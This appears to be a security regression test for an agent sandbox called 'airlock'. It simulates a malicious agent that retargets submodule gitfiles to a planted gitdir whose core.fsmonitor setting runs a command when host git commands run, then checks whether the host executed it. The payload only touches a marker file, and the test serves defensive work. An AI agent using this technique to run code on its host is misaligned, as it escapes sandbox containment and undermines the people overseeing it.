#!/bin/bash
# Direct mode: retarget a submodule's sub/.git gitfile (or populate an uninitialised one) to an agent-made gitdir with core.fsmonitor; host git status recurses into it.
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
set -u
B=${AIRLOCK_BIN:?set AIRLOCK_BIN to the directory holding airlock}; export PATH=$B:$PATH; unset AIRLOCK_BIN  # airlock itself reads AIRLOCK_BIN as its own binary path
T=$(mktemp -d /tmp/atk.XXXXXX); export AIRLOCK_HOME=$T/home; mkdir -p $AIRLOCK_HOME
M=$T/pwned; N=s$$; R=0
export GIT_AUTHOR_NAME=u GIT_AUTHOR_EMAIL=u@x GIT_COMMITTER_NAME=u GIT_COMMITTER_EMAIL=u@x
cleanup(){ cd /; airlock rm $N >/dev/null 2>&1; airlock bridge -stop >/dev/null 2>&1; rm -rf $T; }
trap cleanup EXIT
git init -q $T/repo && cd $T/repo && echo hi > README
git init -q $T/lib && (cd $T/lib && echo lib > l && git add l && git commit -qm l)
git -c protocol.file.allow=always submodule -q add $T/lib sub
git -c protocol.file.allow=always submodule -q add $T/lib deep/sub2
git commit -qm sub; rm -rf deep/sub2/* deep/sub2/.git   # second one not populated
cat > sandbox.hcl <<H
sandbox "$N" {
  backend = "namespace"
  workspace { mode = "direct" }
  network { preset = "locked-down" }
}
H
git add -A && git commit -qm init
for i in 1 2 3; do airlock up --yes >$T/up.log 2>&1 && break; sleep 1; done || { cat $T/up.log; exit 2; }
# ---- the malicious agent, inside the sandbox ----
airlock exec $N -- env M=$M sh <<'AGENT'
cd /workspace
mkdir -p .evil/objects .evil/refs/heads; echo "ref: refs/heads/master" > .evil/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch %s; echo"\n' "$M" > .evil/config
echo "gitdir: ../.evil" > sub/.git 2>/dev/null
mv sub sub.old 2>/dev/null && mkdir sub && echo "gitdir: ../.evil" > sub/.git
echo "gitdir: ../../.evil" > deep/sub2/.git 2>/dev/null
rmdir deep/sub2 2>/dev/null && mkdir deep/sub2 && echo "gitdir: ../../.evil" > deep/sub2/.git
true
AGENT
# ---- host side ----
airlock review $N --json >$T/review.json 2>$T/review.err; RRC=$?
high_for(){ python3 - "$T/review.json" "$1" <<'P'
import json,sys
try: d=json.load(open(sys.argv[1]))
except Exception: sys.exit(1)
for f in d.get("files") or []:
    if f["path"]==sys.argv[2] and any(x["severity"]=="high" for x in f.get("flags") or []): sys.exit(0)
sys.exit(1)
P
}
for c in "status" "diff" "diff --stat" "log -1" "commit -qam x --allow-empty" "gc -q"; do git $c >/dev/null 2>&1; done
[ -e $M ] && { echo "host git ran planted fsmonitor via submodule gitfile"; R=1; }
echo "review exit=$RRC"; [ -s $T/review.err ] && cat $T/review.err
[ $R = 1 ] && echo "RESULT: attack SUCCEEDED" || echo "RESULT: defended"
exit $R
